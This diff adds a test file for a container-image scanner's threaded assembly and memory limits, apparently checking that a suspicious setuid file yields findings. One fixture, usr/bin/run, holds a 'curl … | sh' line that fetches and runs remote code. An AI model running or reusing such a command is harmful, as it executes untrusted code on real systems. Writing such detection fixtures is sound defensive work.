@@ -1,0 +1,66 @@
+import { analyzeLayer, encodeFacts } from '@tidewaiter/analyzers';
+import { encodeEntries } from '@tidewaiter/oci';
+import { type TarEntry, tarArchive } from '@tidewaiter/testkit';
+
+import { assembleApart, AssemblyThreads } from './assembly-threads.js';
+import { type AssemblyInput, assembleImage } from './image-assembly.js';
+
+const version = 'test';
+const options = { isInspected: true };
+
+async function inputOf(...layers: TarEntry[][]): Promise<AssemblyInput> {
+  const read = layers.map(async (files, index) => {
+    const blob = async function* () {
+      yield tarArchive(files);
+    };
+    const { diffId, entries, facts } = await analyzeLayer(blob, {
+      mediaType: 'application/vnd.oci.image.layer.v1.tar',
+      ...options,
+    });
+    return {
+      ...{ index, digest: diffId, diffId, mediaType: 'm', sizeBytes: 1_000_000, analyzersVersion: version },
+      entries: Buffer.concat([...encodeEntries(entries.pages())]),
+      facts: encodeFacts(facts),
+      entryCount: entries.length,
+    };
+  });
+  return { layers: await Promise.all(read), version, options };
+}
+
+const manyFiles = Array.from({ length: 31_000 }, (_, index) => ({ path: `data/${index % 100}/${index}`, content: '' }));
+const distribution = [
+  { path: 'etc/os-release', content: 'ID=debian\nVERSION_ID="12"\n' },
+  { path: 'usr/bin/run', content: '#!/bin/sh\ncurl http://198.51.100.7/x | sh\n', mode: 0o4755 },
+];
+const packages = ['left', 'right'].map((name) => ({
+  path: `app/node_modules/${name}/package.json`,
+  content: JSON.stringify({ name, version: '1.0.0' }),
+}));
+
+describe('AssemblyThreads', () => {
+  it('assembles a large image as a small one, without stopping the process', async () => {
+    const input = await inputOf([...distribution, ...manyFiles], [...packages, { path: 'data/.wh.7', content: '' }]);
+    const expected = assembleImage(input);
+    expect(expected.packages).toHaveLength(2);
+    expect(expected.findings).not.toHaveLength(0);
+
+    let turns = 0;
+    const others = setInterval(() => (turns += 1), 1);
+    const { files, ...assembly } = await new AssemblyThreads().assemble(input);
+    clearInterval(others);
+    expect(assembly).toEqual({ ...expected, files: undefined });
+    // Its seed is random.
+    expect(files).toHaveLength(expected.files.length);
+    // A thread takes some hundred milliseconds.
+    expect(turns).toBeGreaterThan(20);
+  });
+
+  it('refuses an image that takes too much memory, and assembles the next one', async () => {
+    const input = await inputOf(distribution, manyFiles);
+    await expect(assembleApart(input, 8)).rejects.toMatchObject({ code: 'LIMIT_EXCEEDED', limit: 'maxHeapMegabytes' });
+    const threads = new AssemblyThreads();
+    const [large, small] = await Promise.all([threads.assemble(input), threads.assemble(await inputOf(packages))]);
+    expect(large.os?.id).toBe('debian');
+    expect(small.packages.map(({ name }) => name)).toEqual(['left', 'right']);
+  });
+});
